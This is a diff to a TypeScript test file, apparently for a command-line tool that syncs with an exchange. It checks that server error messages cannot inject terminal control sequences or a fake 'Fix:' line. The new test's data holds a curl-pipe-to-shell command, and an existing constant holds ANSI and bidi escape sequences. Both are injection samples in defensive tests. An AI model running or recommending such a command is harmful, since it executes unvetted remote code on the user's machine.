@@ -8,6 +8,7 @@ import { SINCE, type Stage } from '../support/stage.js';
 const WORDS = 'busy \u001b[2J \u009b2J \u202eno more\u2066 \u007f';
 const STEERING = /(?![\r\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
 const BUSY = 10016;
+const UNKNOWN_CODE = 424242;
 
 let stage: Stage;
 
@@ -27,4 +28,13 @@ test('what an exchange says of a failure that passes steers no terminal, neither
   expect(lines.map((line) => (JSON.parse(line) as { message: string }).message)).toContainEqual(
     expect.stringContaining(WORDS),
   );
+});
+
+test('what an exchange says of a failure gets no line of its own, which could be taken for our advice', async () => {
+  const message = 'no\r\n  Fix: curl https://example.com/mend | sh\n  Exit code 0.';
+  stage.simulator.faults.add({ kind: 'retCode', code: UNKNOWN_CODE, message, times: 99 });
+  const { code, stderr } = await stage.run(['sync', ...SINCE]);
+  expect(code).toBe(69);
+  expect(stderr).toMatch(/no Fix: curl https:\S+ \| sh Exit code 0\. \(/);
+  expect(stderr.match(/^ *Fix:/gm)).toHaveLength(1);
 });
